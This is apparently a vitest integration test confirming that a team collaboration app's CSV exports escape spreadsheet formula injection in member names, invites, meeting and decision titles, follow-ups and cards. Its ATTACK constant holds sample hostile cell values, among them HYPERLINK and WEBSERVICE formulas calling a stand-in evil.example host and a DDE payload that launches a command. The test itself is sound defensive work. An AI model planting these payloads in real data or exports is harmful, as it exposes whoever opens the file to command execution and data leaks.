import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { followUps, readDecisionFields } from '../../shared/decisions/decisionDoc';
import { decisionDocumentName } from '../../shared/documents/documentName';
import { addToTeam, callApi, signUp, type TestUser } from '../testing/apiClient';
import { connectClient } from '../testing/collabClient';
import { availableBackends } from '../testing/testDatabase';
import { useTestServer } from '../testing/useTestServer';

/** What a team member types, hoping a spreadsheet runs it when someone opens an export. */
const ATTACK = {
  name: '=HYPERLINK("http://evil.example","x")',
  inviteEmail: '-1+1@evil.example',
  meeting: '=WEBSERVICE("http://evil.example")',
  decision: "+1+cmd|' /C calc'!A0",
  followUp: '-2+3',
  card: '@SUM(1+1)',
};

/** A cell a spreadsheet would run: this oracle is independent of the code under test. */
const LIVE_FORMULA = /^[=+\-@\t\r]/;

/** A CSV file's rows after the header, its columns by name, and every cell. */
function readCsv(text: string) {
  const [header = [], ...rows]: string[][] = parse(text, {
    bom: true,
    relax_column_count: true,
    skip_empty_lines: true,
  });
  const column = (name: string) => {
    const index = header.indexOf(name);
    expect(index, `column ${name}`).toBeGreaterThanOrEqual(0);
    return rows.map((row) => row[index]);
  };
  return { rows, cells: [...header, ...rows.flat()], column };
}

describe.each(availableBackends())('CSV injection on %s', (backend) => {
  const fixture = useTestServer({ backend, teamName: 'CSV injection ILT' });
  let mallory: TestUser;
  let runId: string;
  let exportFiles: Record<string, Uint8Array>;

  const api = async (method: string, path: string, user: TestUser, body?: unknown) => {
    const response = await callApi(
      fixture.app.url,
      method,
      `/api/teams/${fixture.team.teamId}${path}`,
      {
        token: user.token,
        body,
      },
    );
    expect(response.status, `${method} ${path}: ${JSON.stringify(response.body)}`).toBeLessThan(
      300,
    );
    return response.body as Record<string, unknown>;
  };
  const download = async (path: string) => {
    const response = await fetch(`${fixture.app.url}/api/teams/${fixture.team.teamId}${path}`, {
      headers: { authorization: `Bearer ${fixture.team.principal.token}` },
    });
    expect(response.status, path).toBe(200);
    return new Uint8Array(await response.arrayBuffer());
  };

  beforeAll(async () => {
    // Mallory facilitates, so every kind of row can carry what she types.
    mallory = await signUp(fixture.app.url, ATTACK.name);
    await addToTeam(
      fixture.app.url,
      fixture.team.principal,
      fixture.team.teamId,
      mallory,
      'facilitator',
    );
    await api('POST', '/invites', fixture.team.principal, {
      role: 'member',
      email: ATTACK.inviteEmail,
    });
    await api('POST', '/meetings', mallory, { title: ATTACK.meeting, date: '2026-03-02' });

    const { decisionId } = await api('POST', '/decisions', mallory, { title: ATTACK.decision });
    const decision = await connectClient(
      fixture.app.url,
      decisionDocumentName(fixture.team.teamId, String(decisionId)),
      mallory.token,
    );
    await decision.until((doc) => readDecisionFields(doc)?.title === ATTACK.decision);
    followUps.add(decision.doc, {
      task: ATTACK.followUp,
      owner: '',
      dueDate: null,
      status: 'open',
    });
    await decision.acknowledged();
    decision.destroy();

    const run = await api('POST', '/runs', mallory, {
      protocolId: 'notice-and-wonder',
      title: 'Looking at reading data',
    });
    runId = String(run.id);
    await api('POST', `/runs/${runId}/control`, mallory, { type: 'start' });
    await api('POST', `/runs/${runId}/cards`, mallory, {
      stepId: 'step-1',
      column: 'I notice',
      text: ATTACK.card,
      anonymous: false,
    });

    exportFiles = unzipSync(await download('/export'));
  });

  it.each([
    { file: 'members.csv', column: 'name', typed: ATTACK.name },
    { file: 'pending-invites.csv', column: 'email', typed: ATTACK.inviteEmail },
    { file: 'audit-log.csv', column: 'actor', typed: ATTACK.name },
    { file: 'meetings.csv', column: 'title', typed: ATTACK.meeting },
    { file: 'decisions.csv', column: 'title', typed: ATTACK.decision },
    { file: 'follow-ups.csv', column: 'task', typed: ATTACK.followUp },
    { file: 'decision-history.csv', column: 'changed_by', typed: ATTACK.name },
  ])('keeps $column in the team export’s $file as text', ({ file, column, typed }) => {
    const bytes = exportFiles[file];
    if (!bytes) throw new Error(`${file} is missing from the export`);
    const csv = readCsv(strFromU8(bytes));
    expect(csv.column(column)).toContain(`'${typed}`);
    expect(csv.cells.filter((cell) => LIVE_FORMULA.test(cell))).toEqual([]);
  });

  it('keeps card text and author in the run summary as text, and votes as numbers', async () => {
    const csv = readCsv(strFromU8(await download(`/runs/${runId}/summary.csv`)));
    // One card row, then the timings table (its own header first).
    expect(csv.rows[0]).toEqual([
      'Silent noticing',
      'I notice',
      `'${ATTACK.card}`,
      `'${ATTACK.name}`,
      '0',
      '',
    ]);
    expect(csv.rows[1]).toEqual(['step', 'planned_minutes', 'actual_minutes']);
    expect(csv.rows[2]).toEqual(['Silent noticing', '5', expect.stringMatching(/^\d/)]);
    expect(csv.cells.filter((cell) => LIVE_FORMULA.test(cell))).toEqual([]);
  });

  it('keeps titles and follow-ups in the review CSV as text', async () => {
    const csv = readCsv(strFromU8(await download('/review/decisions.csv')));
    expect(csv.column('title')).toEqual([`'${ATTACK.decision}`]);
    expect(csv.column('follow-ups')).toEqual([`'${ATTACK.followUp} (open)`]);
    expect(csv.cells.filter((cell) => LIVE_FORMULA.test(cell))).toEqual([]);
  });
});
